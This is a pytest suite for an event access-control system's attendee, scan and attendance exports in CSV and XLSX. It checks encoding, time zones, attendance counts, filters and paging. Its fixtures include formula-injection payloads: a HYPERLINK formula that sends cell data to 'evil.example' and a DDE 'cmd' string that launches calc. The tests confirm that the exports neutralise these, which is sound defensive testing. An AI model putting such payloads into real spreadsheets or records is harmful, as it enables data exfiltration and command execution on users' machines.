"""Exports over real HTTP on both databases, opened by real readers (csv, openpyxl)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from dataclasses import dataclass
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from tests.support.factories import new_badge
from tests.support.live import LiveServer

TZ = ZoneInfo("Asia/Shanghai")
HALL_IN, HALL_OUT = "Prelude Hall Entrance", "Prelude Hall Exit"
EVIL_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@dataclass
class Scenario:
    level: str
    day: dt.date
    a: Any
    b: Any
    c: Any


def _at(day: dt.date, hh: int, mm: int) -> str:
    return dt.datetime.combine(day, dt.time(hh, mm), TZ).isoformat()


def _offline(code: str, gate: str, at: str, direction: str) -> dict[str, Any]:
    return {"scan_id": str(uuid.uuid4()), "code": code, "gate": gate, "direction": direction,
            "scanned_at": at, "offline_verdict": "admit", "offline_reason": "ok"}


@pytest.fixture(scope="module")
def scenario(live_server: LiveServer) -> Scenario:
    """A level of its own and scans on the event's second day, so other tests' scans
    (today) cannot change the figures asserted here."""
    admin = live_server.session("admin")
    event = live_server.session("gate").get(f"{live_server.url}/api/v1/sync?limit=1").json()["event"]
    start = dt.date.fromisoformat(event["start_date"])
    day = start + dt.timedelta(days=1)
    level = f"Export Level {uuid.uuid4().hex[:6]}"
    resp = admin.post(f"{live_server.url}/api/v1/access-levels", json={
        "name": level, "zones": ["Prelude Hall"], "days": [start.isoformat(), day.isoformat()]})
    assert resp.status_code == 201, resp.text
    a = new_badge(live_server, name="王伟 Export", organization=EVIL_ORG, access_level=level,
                  country="CN")
    b = new_badge(live_server, name="محمد العتيبي Export", organization="+cmd|' /C calc'!A0",
                  access_level=level, country="SA")
    c = new_badge(live_server, name="@Never Came", organization="-Absent Ltd", access_level=level)
    scans = [
        _offline(a.code, HALL_IN, _at(day, 10, 0), "in"),
        _offline(b.code, HALL_IN, _at(day, 10, 5), "in"),
        _offline(a.code, HALL_OUT, _at(day, 10, 30), "out"),
        _offline(b.code, HALL_OUT, _at(day, 11, 5), "out"),
        _offline(a.code, HALL_IN, _at(day, 12, 0), "in"),
    ]
    resp = live_server.session("gate").post(f"{live_server.url}/api/v1/scans/batch",
                                            json={"scans": scans})
    assert resp.status_code == 200, resp.text
    return Scenario(level, day, a, b, c)


def _get(server: LiveServer, path: str, role: str = "admin", **params: Any) -> bytes:
    resp = server.session(role).get(f"{server.url}/api/v1/exports/{path}", params=params, timeout=60)
    assert resp.status_code == 200, resp.text
    return resp.content


def _csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_attendees_csv_neutralises_formulas_and_marks_no_shows(
        live_server: LiveServer, scenario: Scenario) -> None:
    data = _get(live_server, "attendees.csv", level=scenario.level)
    rows = {int(r["attendee_id"]): r for r in _csv(data)}
    assert set(rows) == {scenario.a.attendee_id, scenario.b.attendee_id, scenario.c.attendee_id}
    a, b, c = (rows[x.attendee_id] for x in (scenario.a, scenario.b, scenario.c))
    assert a["name"] == "王伟 Export" and b["name"] == "محمد العتيبي Export"
    assert a["organization"] == "'" + EVIL_ORG
    assert b["organization"].startswith("'+cmd")
    assert c["name"] == "'@Never Came" and c["organization"] == "'-Absent Ltd"
    assert c["no_show"] == "yes" and a["no_show"] == "no"
    first = dt.datetime.fromisoformat(a["first_admitted_at"])
    assert first.utcoffset() == dt.timedelta(hours=8)
    assert first.replace(tzinfo=None) == dt.datetime.combine(scenario.day, dt.time(10, 0))
    assert a["badge_number"] == scenario.a.number


def test_scans_xlsx_typed_dates_frozen_header_no_formulas(
        live_server: LiveServer, scenario: Scenario, tmp_path: Any) -> None:
    data = _get(live_server, "scans.xlsx", role="security", level=scenario.level,
                day=scenario.day.isoformat())
    path = tmp_path / "scans.xlsx"
    path.write_bytes(data)
    wb = load_workbook(path)
    ws = wb.active
    assert ws is not None and ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c.value for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]
    assert len(rows) == 5
    first = rows[0]
    assert isinstance(first["scanned_at"], dt.datetime)
    assert first["scanned_at"] == dt.datetime.combine(scenario.day, dt.time(10, 0))
    assert [r["direction"] for r in rows] == ["in", "in", "out", "out", "in"]
    org_cells = [c for r in ws.iter_rows(min_row=2) for c in r
                 if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert org_cells and all(c.data_type == "s" and c.value.startswith("'") for c in org_cells)
    assert "code" not in header  # raw codes never leave in an export


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_attendance_per_day_zone_level(live_server: LiveServer, scenario: Scenario, fmt: str,
                                       tmp_path: Any) -> None:
    data = _get(live_server, f"attendance.{fmt}", role="security", level=scenario.level,
                day=scenario.day.isoformat())
    if fmt == "csv":
        rows = _csv(data)
    else:
        (tmp_path / "a.xlsx").write_bytes(data)
        ws = load_workbook(tmp_path / "a.xlsx").active
        assert ws is not None
        header = [c.value for c in ws[1]]
        rows = [dict(zip(header, (c.value for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]
    assert len(rows) == 1
    row = rows[0]
    assert row["zone"] == "Prelude Hall" and row["access_level"] == scenario.level
    assert int(row["arrived"]) == 2 and int(row["peak_inside"]) == 2
    assert float(row["median_stay_min"]) == 45.0  # stays of 30 and 60 minutes
    peak = row["peak_at"]
    expected = dt.datetime.combine(scenario.day, dt.time(10, 5))
    if fmt == "csv":
        assert dt.datetime.fromisoformat(str(peak)) == expected.replace(tzinfo=TZ)
    else:
        assert peak == expected


def test_filters_refuse_unknown_names_and_formats(live_server: LiveServer) -> None:
    admin = live_server.session("admin")
    url = f"{live_server.url}/api/v1/exports"
    assert admin.get(f"{url}/scans.pdf").status_code == 404
    resp = admin.get(f"{url}/scans.csv", params={"level": "No Such Level"})
    assert resp.status_code == 404 and resp.json()["error"]["code"] == "unknown_access_level"
    assert admin.get(f"{url}/scans.csv", params={"day": "yesterday"}).status_code == 422
    assert live_server.session("security").get(f"{url}/attendees.csv").status_code == 403


def test_scan_log_pages_with_a_cursor(live_server: LiveServer, scenario: Scenario) -> None:
    staff = live_server.session("security")
    seen: list[str] = []
    params: dict[str, Any] = {"attendee": scenario.a.attendee_id, "limit": 2}
    pages = 0
    while True:
        body = staff.get(f"{live_server.url}/api/v1/scans", params=params).json()
        seen += [s["scan_id"] for s in body["scans"]]
        pages += 1
        if body["next_cursor"] is None:
            break
        params["after"] = body["next_cursor"]
    assert pages == 2 and len(seen) == 3 == len(set(seen))
    bad = staff.get(f"{live_server.url}/api/v1/scans", params={"after": "!!nope"})
    assert bad.status_code == 422
